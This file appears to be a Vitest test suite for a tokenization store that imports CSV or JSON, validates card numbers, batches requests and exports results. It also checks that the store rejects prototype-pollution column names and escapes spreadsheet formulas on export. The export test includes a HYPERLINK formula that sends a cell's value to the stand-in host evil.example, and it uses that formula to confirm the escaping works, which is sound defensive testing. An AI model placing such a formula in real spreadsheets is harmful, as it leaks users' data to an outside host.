import Papa from 'papaparse'
import { createPinia, setActivePinia } from 'pinia'
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import { setApi } from '@renderer/api'
import { TOKENIZE_MAX_TOKENS } from '@shared/token-rules'
import { CHUNK_ROWS, useTokenizeStore } from '@renderer/stores/tokenize'
import { fakeApi, problem } from '../fake-api'

/** Answers a tokenize request the way the service does: each token request becomes a token with an id. */
function echoTokenize() {
  let next = 0
  return vi.fn(async (body: unknown) =>
    (body as Record<string, { type: string }>[]).map((row) =>
      Object.fromEntries(Object.entries(row).map(([column, request]) => [column, { id: `tok_${next++}`, type: request.type }]))
    )
  )
}

function csv(rows: number): string {
  return ['name,card_number,note', ...Array.from({ length: rows }, (_, i) => `n${i},4242424242424242,${i % 2 ? '' : 'x'}`)].join('\n')
}

describe('useTokenizeStore', () => {
  beforeEach(() => setActivePinia(createPinia()))
  afterEach(() => {
    setApi(undefined)
    vi.restoreAllMocks()
  })

  it('reads a CSV header and guesses a card column from its name and values', () => {
    const store = useTokenizeStore()
    expect(store.loadCsv(csv(3), 'people.csv')).toBe(true)
    expect(store.rows).toHaveLength(3)
    expect(store.columns).toEqual([
      { name: 'name', role: 'token' },
      { name: 'card_number', role: 'card' },
      { name: 'note', role: 'token' }
    ])
  })

  it('refuses a file without data rows', () => {
    const store = useTokenizeStore()
    expect(store.loadCsv('only,a,header\n', 'empty.csv')).toBe(false)
    expect(store.loadError).toContain('no data rows')
  })

  it('refuses a column named __proto__, constructor or prototype, naming it, rather than lose its values', () => {
    const store = useTokenizeStore()
    for (const name of ['__proto__', 'constructor', 'prototype']) {
      expect(store.loadCsv(`name,${name}\nAda,4242424242424242\n`, 'people.csv')).toBe(false)
      expect(store.loadError).toBe(`The column "${name}" cannot be used: __proto__, constructor and prototype are reserved names. Rename it and load it again.`)
      expect(store.rows).toEqual([])
    }
    expect(store.loadJson('[{"name": "Ada", "__proto__": "4242424242424242"}]')).toBe(false)
    expect(store.loadError).toContain('The column "__proto__" cannot be used')
    expect(store.loadCsv('name,card\nAda,4242424242424242\n', 'people.csv')).toBe(true)
    expect(store.loadError).toBe('')
  })

  it('takes pasted JSON arrays of objects or of plain values', () => {
    const store = useTokenizeStore()
    expect(store.loadJson('[{"a": 1}, {"b": "x"}]')).toBe(true)
    expect(store.columns.map((c) => c.name)).toEqual(['a', 'b'])
    expect(store.loadJson('["123-45-6789", "987-65-4321"]')).toBe(true)
    expect(store.rows).toEqual([{ value: '123-45-6789' }, { value: '987-65-4321' }])
    expect(store.loadJson('{"not": "an array"}')).toBe(false)
    expect(store.loadJson('nope')).toBe(false)
  })

  it(`tokenizes in chunks of ${CHUNK_ROWS} rows, sends only tokenized non-empty cells, and keeps kept columns`, async () => {
    const run = echoTokenize()
    setApi(fakeApi({ tokenize: { run } }))
    const store = useTokenizeStore()
    store.loadCsv(csv(1200), 'people.csv')
    store.setRole('name', 'keep')
    await store.run()
    expect(run.mock.calls.map(([body]) => (body as unknown[]).length)).toEqual([500, 500, 200])
    const [firstChunk] = run.mock.calls[0] as [Record<string, unknown>[]]
    expect(firstChunk[0]).toEqual({ card_number: { type: 'card', data: { number: '4242424242424242' } }, note: { type: 'token', data: 'x' } })
    expect(firstChunk[1]).toEqual({ card_number: { type: 'card', data: { number: '4242424242424242' } } })
    expect(store.status).toBe('done')
    expect(store.processed).toBe(1200)
    expect(store.tokensCreated).toBe(1800)
    expect(store.results[0]).toEqual({ name: 'n0', card_number: 'tok_0', note: 'tok_1' })
    expect(store.results[1]).toEqual({ name: 'n1', card_number: 'tok_2', note: '' })
  })

  it(`sends fewer rows a call when they hold more than ${TOKENIZE_MAX_TOKENS} tokens, the most one request may create`, async () => {
    const run = echoTokenize()
    setApi(fakeApi({ tokenize: { run } }))
    const store = useTokenizeStore()
    store.loadJson(JSON.stringify(Array.from({ length: 600 }, (_, i) => ({ a: `a${i}`, b: `b${i}`, c: `c${i}`, d: i % 2 ? '' : `d${i}` }))))
    await store.run()
    const tokensPerCall = run.mock.calls.map(([body]) => (body as Record<string, unknown>[]).reduce((sum, row) => sum + Object.keys(row).length, 0))
    expect(tokensPerCall.every((tokens) => tokens <= TOKENIZE_MAX_TOKENS)).toBe(true)
    expect(run.mock.calls.map(([body]) => (body as unknown[]).length)).toEqual([285, 285, 30])
    expect(store.status).toBe('done')
    expect(store.processed).toBe(600)
    expect(store.tokensCreated).toBe(2100)
    expect(store.results[599]).toEqual({ a: 'tok_2097', b: 'tok_2098', c: 'tok_2099', d: '' })
  })

  it('cancels after the chunk in flight', async () => {
    const store = useTokenizeStore()
    const run = vi.fn(async (body: unknown) => {
      store.cancel()
      return (body as unknown[]).map(() => ({}))
    })
    setApi(fakeApi({ tokenize: { run } }))
    store.loadCsv(csv(1200), 'people.csv')
    store.setRole('name', 'keep')
    await store.run()
    expect(run).toHaveBeenCalledTimes(1)
    expect(store.status).toBe('cancelled')
    expect(store.processed).toBe(500)
  })

  it('stops at a failed chunk and names the row of the whole file', async () => {
    let calls = 0
    const run = vi.fn(async (body: unknown) => {
      if (++calls === 2) throw problem(400, 'The request has invalid fields.', { '[3].card_number.data.number': ['fails the Luhn check'] })
      return (body as unknown[]).map(() => ({}))
    })
    setApi(fakeApi({ tokenize: { run } }))
    const store = useTokenizeStore()
    store.loadCsv(csv(1200), 'people.csv')
    store.setRole('name', 'keep')
    await store.run()
    expect(store.status).toBe('failed')
    expect(store.processed).toBe(500)
    expect(store.runError).toBe('The request has invalid fields. row 504 › card_number.data.number: fails the Luhn check')
  })

  it('refuses to start when a card value breaks a card rule, naming every bad row, and sends nothing', async () => {
    const run = echoTokenize()
    setApi(fakeApi({ tokenize: { run } }))
    const store = useTokenizeStore()
    store.loadCsv('card_number,name\n4242 4242 4242 4242,a\n4242424242424241,b\n,c\n42424242,d\n', 'cards.csv')
    store.setRole('card_number', 'card')
    await store.run()
    expect(run).not.toHaveBeenCalled()
    expect(store.status).toBe('failed')
    expect(store.runError).toBe(
      'Nothing was tokenized: 2 card values are not valid. row 2 › card_number.data.number: fails the Luhn check row 4 › card_number.data.number: must have 13 to 19 digits'
    )
    expect(store.runError).not.toContain('4242424242424241')
  })

  it('takes a card number written with spaces or dashes', async () => {
    const run = echoTokenize()
    setApi(fakeApi({ tokenize: { run } }))
    const store = useTokenizeStore()
    store.loadCsv('card_number\n4242-4242-4242-4242\n', 'cards.csv')
    await store.run()
    expect(store.status).toBe('done')
    expect(run).toHaveBeenCalledWith([{ card_number: { type: 'card', data: { number: '4242424242424242' } } }])
  })

  it('exports kept cells a spreadsheet would run as a formula behind a quote', async () => {
    setApi(fakeApi({ tokenize: { run: echoTokenize() } }))
    const blobs: Blob[] = []
    vi.spyOn(URL, 'createObjectURL').mockImplementation((blob) => (blobs.push(blob as Blob), 'blob:csv'))
    vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined)
    const store = useTokenizeStore()
    store.loadCsv('note,secret\n"=HYPERLINK(""https://evil.example/?d=""&B2,""x"")",a\n-1-1,b\nplain,c\n', 'notes.csv')
    store.setRole('note', 'keep')
    await store.run()
    store.exportCsv()
    const [, ...rows] = Papa.parse<string[]>(await blobs[0].text(), { skipEmptyLines: true }).data
    expect(rows).toEqual([
      [`'=HYPERLINK("https://evil.example/?d="&B2,"x")`, 'tok_0'],
      ["'-1-1", 'tok_1'],
      ['plain', 'tok_2']
    ])
  })

  it('cannot run without a tokenized column', () => {
    const store = useTokenizeStore()
    store.loadCsv(csv(2), 'people.csv')
    for (const column of store.columns) store.setRole(column.name, 'keep')
    expect(store.canRun).toBe(false)
  })
})
